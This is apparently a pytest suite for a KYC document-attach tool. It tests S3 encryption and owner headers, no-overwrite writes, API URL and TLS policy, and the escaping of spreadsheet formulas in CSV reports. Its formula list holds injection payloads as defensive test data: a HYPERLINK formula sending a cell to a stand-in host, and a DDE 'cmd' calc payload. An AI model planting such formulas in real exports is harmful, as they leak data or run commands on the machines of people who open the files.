"""The S3 write policy, the API URL policy and spreadsheet-safe reports, checked against the real servers."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from connectors.errors import SetupError
from connectors.objects import ObjectStore
from connectors.s3 import Location, S3Store, make_s3_client
from flows.attach_flow import run_attach
from flows.commands.cli import app
from flows.runtime import check_api_url
from tests.hostile.helpers import CorpusRun
from tests.support.legacy_archives import stage_archive
from tests.support.scenario import api_env, load_world, sandbox_record


class _Recorder:
    """A boto3 client stand-in that records the arguments of the calls made to it (for headers moto ignores)."""

    def __init__(self, real: Any) -> None:
        self.real, self.calls = real, []

    def __getattr__(self, name: str) -> Any:
        fn = getattr(self.real, name)

        def call(*args: Any, **kw: Any) -> Any:
            self.calls.append((name, kw))
            return fn(*args, **kw)

        return call


# -- encryption and owner ----------------------------------------------------------------------------------


@pytest.mark.slow
def test_report_objects_are_encrypted_at_rest(corpus_run: CorpusRun) -> None:
    client = make_s3_client()
    keys = [o["Key"] for prefix in ("reports/", "ledger/")
            for o in client.list_objects_v2(Bucket=corpus_run.bucket, Prefix=prefix)["Contents"]]
    assert any(k.endswith("rows.csv") for k in keys) and any(k.startswith("ledger/_documents/") for k in keys)
    for key in keys:  # reports, summary, payloads and ledger segments alike
        assert client.head_object(Bucket=corpus_run.bucket, Key=key)["ServerSideEncryption"] == "AES256", key


def test_kms_encryption_and_key_id_when_configured(bucket: str) -> None:
    rec = _Recorder(make_s3_client())
    store = ObjectStore(S3Store(rec, sse="aws:kms", kms_key_id="arn:aws:kms:us-east-1:111122223333:key/abc"))
    store.write(Location(bucket, "r/summary.json"), b"{}")
    (name, kw), = rec.calls
    assert name == "put_object"
    assert kw["ServerSideEncryption"] == "aws:kms"
    assert kw["SSEKMSKeyId"] == "arn:aws:kms:us-east-1:111122223333:key/abc"
    assert kw["IfNoneMatch"] == "*"


def test_expected_bucket_owner_sent_on_every_call(bucket: str, tmp_path: Path) -> None:
    """Every read, write and download carries the owner (AWS then refuses a bucket of another account; moto
    does not check it, so the test checks what is sent)."""
    rec = _Recorder(make_s3_client())
    s3 = S3Store(rec, expected_bucket_owner="123456789012")
    s3.put(bucket, "a/b.txt", b"x", content_type="text/plain", overwrite=False)
    s3.head(bucket, "a/b.txt")
    s3.open(bucket, "a/b.txt").close()
    s3.get_bytes(bucket, "a/b.txt")
    s3.exists(bucket, "a/nope")
    s3.download(bucket, "a/b.txt", tmp_path / "b.txt")
    names = [n for n, _ in rec.calls]
    assert names == ["put_object", "head_object", "get_object", "get_object", "head_object", "download_file"]
    for name, kw in rec.calls:
        sent = kw.get("ExtraArgs") if name == "download_file" else kw
        assert sent["ExpectedBucketOwner"] == "123456789012", name


# -- never overwrite -------------------------------------------------------------------------------------------


def test_an_existing_object_is_never_overwritten(bucket: str) -> None:
    store = ObjectStore(S3Store(make_s3_client()))
    loc = Location(bucket, "reports/r1/summary.json")
    store.write(loc, b"first")
    with pytest.raises(SetupError, match="never overwritten"):
        store.write(loc, b"second")
    assert store.read(loc) == b"first"


@pytest.mark.slow
def test_second_run_with_the_same_run_id_exits_2_and_keeps_the_first_report(
    corpus_run: CorpusRun, corpus_api_url: str
) -> None:
    client = make_s3_client()
    key = "reports/corpus-real/rows.csv"
    before = client.get_object(Bucket=corpus_run.bucket, Key=key)["Body"].read()

    result = CliRunner().invoke(app, ["run", f"s3://{corpus_run.bucket}/manifests/corpus.csv", "--report-uri",
                                      f"s3://{corpus_run.bucket}/reports", "--run-id", "corpus-real"])

    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        "kyc-attach: cannot start: run id corpus-real: a report exists already under the report location"]
    assert client.get_object(Bucket=corpus_run.bucket, Key=key)["Body"].read() == before
    assert sum(sandbox_record(corpus_api_url)["requests"].values()) == 0


# -- the API URL -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["http://api.fin.com", "http://10.0.0.5:8080", "http://sandbox.local", "ftp://x.com",
                                 "https://", "api.fin.com"])
def test_plain_http_or_non_http_api_url_refused(url: str) -> None:
    with pytest.raises(SetupError):
        check_api_url(url)


@pytest.mark.parametrize("url", ["https://api.fin.com", "http://127.0.0.1:8700", "http://localhost:1", "http://[::1]:2"])
def test_https_and_loopback_http_accepted(url: str) -> None:
    check_api_url(url)


def test_tls_verification_is_never_turned_off() -> None:
    """No code path builds an HTTP client or boto3 client with verification off."""
    root = Path(__file__).resolve().parents[2]
    for folder in ("flows", "connectors", "transforms"):
        for path in (root / folder).rglob("*.py"):
            text = path.read_text()
            assert "verify=False" not in text and "verify = False" not in text, path
            assert "CERT_NONE" not in text and "check_hostname" not in text, path


# -- spreadsheet-safe reports ----------------------------------------------------------------------------------


@pytest.mark.slow
def test_formula_cells_land_escaped_in_rows_csv(corpus_run: CorpusRun) -> None:
    client = make_s3_client()
    data = client.get_object(Bucket=corpus_run.bucket, Key="reports/corpus-real/rows.csv")["Body"].read()
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    by_case = {}
    for want, got in zip(corpus_run.rows, rows, strict=True):
        by_case.setdefault(want["case"], []).append(got)
    # A formula typed in a reported column breaks that column's rule, so the cell is masked (issue 16) and the
    # formula never reaches the report; the escaping below still guards every cell that does.
    (typed,) = by_case["formula_in_document_type"]
    assert typed["document_type"] == "***"
    (uri,) = by_case["formula_in_s3_uri"]
    assert uri["s3_uri"] == "***"
    for row in rows:  # no cell anywhere starts a formula
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row


FORMULA_CELLS = ["=HYPERLINK(\"http://x.example/?\"&A1;\"open\")", "+1+cmd|' /C calc'!A0", "@SUM(1;2)",
           "-2+3", "A10\n=1+1", "\tA11"]


@pytest.mark.slow
@pytest.mark.usefixtures("prefect_harness")
def test_carried_values_that_are_formulas_are_inert_in_rows_csv(
    fin_sandbox: Any, bucket: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
) -> None:
    """carrier_c carries Satz-ID into the report. Archive cells holding formulas (and a newline) must reach
    rows.csv inert (quoted with a leading apostrophe, one CSV record per row) and rows.parquet as they were."""
    archive, mapping, world, _ = stage_archive("carrier_c", bucket)
    load_world(fin_sandbox.url, world)
    api_env(monkeypatch, fin_sandbox.url, tmp_path)
    store = ObjectStore(S3Store(make_s3_client()))
    loc = Location.parse(archive)
    lines = store.read(loc).decode("cp1252").splitlines()
    for i, value in enumerate(FORMULA_CELLS, start=1):
        quoted = '"' + value.replace('"', '""') + '"'
        lines[i] = quoted + lines[i][lines[i].index(";"):]
    store.write(loc, ("\r\n".join(lines) + "\r\n").encode("cp1252"), overwrite=True)

    summary = asyncio.run(run_attach(archive, f"s3://{bucket}/reports", mapping=mapping, dry_run=True))

    report = Location.parse(summary["report"])
    text = store.read(report.child("rows.csv")).decode("utf-8")
    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == summary["rows_in"]
    cells = [r["Satz-ID"] for r in records]
    for value in FORMULA_CELLS:
        shown = [c for c in cells if c.lstrip("'") == value]
        assert shown, (value, cells)
        # what a spreadsheet sees as the cell's start must not open a formula
        assert not shown[0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), shown[0]
